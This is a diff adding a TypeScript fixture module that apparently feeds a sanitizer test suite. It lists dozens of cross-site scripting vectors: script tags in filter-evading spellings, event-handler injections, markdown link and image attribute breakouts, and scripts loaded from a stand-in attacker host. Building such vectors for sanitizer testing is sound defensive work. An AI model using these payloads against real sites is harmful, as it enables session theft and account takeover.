@@ -1,0 +1,72 @@
+import { evil, run, vectors } from './vector.ts';
+
+/** Script elements, in the spellings that filters have missed. */
+const elements = vectors('script', {
+  plain: `<script>${run}</script>`,
+  'upper case': `<SCRIPT>${run}</SCRIPT>`,
+  'mixed case': `<ScRiPt>${run}</sCrIpT>`,
+  'with a source': `<script src="https://${evil}/x.js"></script>`,
+  'source without a scheme': `<script src=//${evil}/x.js></script>`,
+  'source in data': `<script src="data:text/javascript,${run}"></script>`,
+  module: `<script type="module">${run}</script>`,
+  unclosed: `<script>${run}`,
+  'no space after the name': `<script/x>${run}</script>`,
+  'newline in the tag': `<script\n>${run}</script\n>`,
+  'tab in the tag': `<script\t>${run}</script\t>`,
+  'inside another': `<scr<script>ipt>${run}</scr</script>ipt>`,
+  'null in the name': `<scr\u0000ipt>${run}</scr\u0000ipt>`,
+  'after a comment that is none': `<!--><script>${run}</script>-->`,
+  'after an odd comment end': `<!-- --!><script>${run}</script> -->`,
+  'in a comment': `<!-- <script>${run}</script> -->`,
+  'in CDATA': `<![CDATA[<script>${run}</script>]]>`,
+  'in noscript': `<noscript><p title="</noscript><script>${run}</script>">`,
+  'in a style': `<style><script>${run}</script></style>`,
+  'in a title': `<title><script>${run}</script></title>`,
+  'in a textarea': `<textarea><script>${run}</script></textarea>`,
+  'after a template': `<template><script>${run}</script></template>`,
+  'in a list': `- item\n  <script>${run}</script>`,
+  'in a table': `| a |\n| - |\n| <script>${run}</script> |`,
+  'in a heading': `# <script>${run}</script>`,
+  'in a quote': `> <script>\n> ${run}\n> </script>`,
+  'after a fence that closes early': `\`\`\`\n\`\`\`\n<script>${run}</script>\n\`\`\``,
+  'in the info of a fence': `\`\`\`"><script>${run}</script>\ncode\n\`\`\``,
+  'in the language of a fence': `\`\`\`js"onmouseover="${run}\ncode\n\`\`\``,
+  'in code': `\`<script>${run}</script>\``,
+  'as entities': `&lt;script&gt;${run}&lt;/script&gt;`,
+  'as numbers': `&#60;script&#62;${run}&#60;/script&#62;`,
+  'as hex numbers': `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`,
+  'as padded numbers': `&#0000060script&#0000062${run}`,
+  'escaped by backslash': `\\<script\\>${run}\\</script\\>`,
+  'full-width brackets': `＜script＞${run}＜/script＞`,
+  'in a template of a framework': `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
+});
+
+const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbeforetoggle', 'onscrollend', 'onauxclick', 'onwheel'];
+
+/** Event handlers, on elements that run them without anybody's help where they can. */
+const events = vectors('handler', {
+  ...Object.fromEntries(handlers.map((name) => [name, `<img src=x ${name}="${run}">`])),
+  'on a body': `<body onload="${run}">`,
+  'on details': `<details open ontoggle="${run}">x</details>`,
+  'on a video': `<video><source onerror="${run}"></video>`,
+  'on audio': `<audio src=x onerror="${run}">`,
+  'on an input': `<input autofocus onfocus="${run}">`,
+  'on a select': `<select autofocus onfocus="${run}"></select>`,
+  'on a marquee': `<marquee onstart="${run}">x</marquee>`,
+  'on an object': `<object data=x onerror="${run}"></object>`,
+  'on an iframe': `<iframe onload="${run}"></iframe>`,
+  'on an unknown element': `<x onclick="${run}" tabindex=1 autofocus onfocus="${run}">x</x>`,
+  'with a slash for a space': `<img/src=x/onerror="${run}">`,
+  'with a form feed for a space': `<img\fsrc=x\fonerror="${run}">`,
+  'without quotes': `<img src=x onerror=${run.replace(';', ',')}>`,
+  'with backticks': `<img src=x onerror=\`${run}\`>`,
+  'with entities': `<img src=x onerror="&#97;lert(1)">`,
+  'with a broken quote': `<img src="x" title="" "onerror="${run}">`,
+  'on a popover': `<button popovertarget=x>x</button><input type=hidden popover id=x onbeforetoggle="${run}">`,
+  'in the title of a link': `[a](https://${evil} "\\" onmouseover=\\"${run}")`,
+  'in the address of a link': `[a](https://${evil}/"onmouseover="${run})`,
+  'in the alt of an image': `!["onerror="${run}](https://${evil}/x.png)`,
+  'in the title of an image': `![a](https://${evil}/x.png 'x" onerror="${run}')`,
+});
+
+export const scripts = [...elements, ...events];
